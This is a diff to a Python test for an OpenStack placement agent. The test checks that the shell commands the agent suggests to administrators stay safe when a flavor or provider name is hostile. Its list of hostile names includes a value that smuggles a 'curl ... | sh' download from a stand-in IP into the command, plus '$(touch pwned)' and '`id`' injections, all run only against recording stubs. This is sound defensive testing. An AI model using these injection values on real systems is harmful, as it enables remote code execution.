@@ -9,12 +9,19 @@ The broker and Placement are modelled here, independently of the agent: a pool o
 Nova's tenant with a cap, other tenants; allocations that Placement grants only within
 its free capacity. The agent computes its inventory only when the broker changes (its
 PropertiesChanged), as it does for real; Placement-side changes (an allocation made or
-deleted) take effect in Placement at once without it. TAP output."""
+deleted) take effect in Placement at once without it.
+
+Then the commands the agent tells the admin to run, with hostile names: pasted into sh,
+each runs only its own program with the name as one argument. TAP output."""
 import importlib.machinery
 import importlib.util
+import json
+import logging
 import os
 import random
+import subprocess
 import sys
+import tempfile
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 AGENT = os.path.join(HERE, "..", "..", "openstack", "rma-placement-agent")
@@ -116,6 +123,87 @@ def step(m, rng, log):
         log.append("another tenant gives one back")
 
 
+# A flavor name that, unquoted in "Run: openstack flavor set ... FLAVOR", pipes a download into sh.
+HOSTILE = "rma.small;curl${IFS}-s${IFS}http://203.0.113.9/x|sh"
+HOSTILE_NAMES = [HOSTILE, "a b", "it's", "$(touch pwned)", "`id`", "x&&sh", "new\nline", "*"]
+
+
+def run_pasted(command):
+    """What sh runs for a line pasted from a message: a list of argv, each program a recorder
+    (the only programs on PATH)."""
+    with tempfile.TemporaryDirectory() as d:
+        record = os.path.join(d, "argv")
+        for prog in ("openstack", "chmod", "curl", "sh", "touch", "id"):
+            path = os.path.join(d, prog)
+            with open(path, "w") as f:
+                f.write("#!%s\nimport json, os, sys\nwith open(%r, 'a') as f:\n"
+                        "    f.write(json.dumps([os.path.basename(sys.argv[0])] + sys.argv[1:]) + '\\n')\n"
+                        % (sys.executable, record))
+            os.chmod(path, 0o755)
+        subprocess.run(["/bin/sh", "-c", command], cwd=d, env={"PATH": d}, stdin=subprocess.DEVNULL,
+                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30)
+        if not os.path.exists(record):
+            return []
+        with open(record) as f:
+            return [json.loads(line) for line in f]
+
+
+class Capture(logging.Handler):
+    def __init__(self):
+        super().__init__()
+        self.lines = []
+
+    def emit(self, record):
+        self.lines.append(record.getMessage())
+
+
+def reconcile_says(flavor, provider):
+    """The agent's warnings for one instance of `flavor` holding an RMA without an allocation,
+    and for more allocations than it can grant, on provider `provider`."""
+    a = object.__new__(agent.Agent)
+    a.tenant, a.provider_name, a.reported, a.domains = "nova", provider, ((), False), {"u1": "instance-1"}
+    a.flavors_of = lambda uuids: {u: flavor for u in uuids}
+    capture = Capture()
+    agent.log.addHandler(capture)
+    try:
+        a.reconcile(agent.Offer(0, 1, 0, ["u1"], ["w1", "w2"], True), "CUSTOM_RMA_256MB", 1)
+    finally:
+        agent.log.removeHandler(capture)
+    return capture.lines
+
+
+def between(text, start, end):
+    i = text.index(start) + len(start)
+    return text[i:text.index(end, i)]
+
+
+def pasted_commands():
+    """(what, the argv sh ran, the argv the message meant) for each command and hostile name."""
+    for name in HOSTILE_NAMES:
+        lines = reconcile_says(name, name)
+        flavor_line = next(line for line in lines if "Run: openstack flavor set" in line)
+        yield ("openstack flavor set for flavor %r" % name,
+               run_pasted(between(flavor_line, "Run: ", " (new instances)")),
+               [["openstack", "flavor", "set", "--property", "resources:CUSTOM_RMA_256MB=1", name]])
+        over_line = next(line for line in lines if "openstack resource provider show" in line)
+        yield ("openstack resource provider show for provider %r" % name,
+               run_pasted(over_line[over_line.rindex("(openstack resource provider show") + 1:-1]),
+               [["openstack", "resource", "provider", "show", "--allocations", name]])
+        with tempfile.TemporaryDirectory() as d:
+            path = os.path.join(d, name.replace("/", "_"))
+            with open(path, "w") as f:
+                f.write("password = x\n")
+            os.chmod(path, 0o644)
+            try:
+                agent.refuse_readable_secret(path, "password = x\n")
+                message = ""
+            except SystemExit as e:
+                message = str(e)
+            yield ("chmod o-r for the config file %r" % path,
+                   run_pasted(between(message, "Run: ", " (root-owned")) if message else [],
+                   [["chmod", "o-r", path]])
+
+
 def main():
     seed = int(os.environ.get("RMA_TEST_SEED", random.randrange(1 << 30)))
     rng = random.Random(seed)
@@ -167,6 +255,12 @@ def main():
         print("%s %d - %s" % ("ok" if got == want else "not ok", n, what))
         if got != want:
             print("# expected %s, got %s" % (want, got))
+            ok = False
+    for what, ran, meant in pasted_commands():
+        n += 1
+        print("%s %d - pasted from its message, %s runs only that" % ("ok" if ran == meant else "not ok", n, what))
+        if ran != meant:
+            print("# sh ran %s, the message meant %s" % (ran, meant))
             ok = False
     print("1..%d" % n)
     return 0 if ok else 1
